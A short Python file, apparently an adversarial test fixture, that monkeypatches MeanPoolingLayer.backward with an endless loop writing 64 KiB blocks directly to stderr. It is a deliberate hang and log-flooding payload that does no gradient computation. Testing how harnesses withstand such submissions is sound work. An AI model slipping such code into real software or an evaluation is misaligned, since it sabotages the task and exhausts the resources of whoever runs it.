"""Writes to the descriptor of errors for ever, past every object of Python's."""

import os

# @STUB mean_pooling@


def backward(self, dout):
    while True:
        os.write(2, b"x" * 65_536)


MeanPoolingLayer.backward = backward
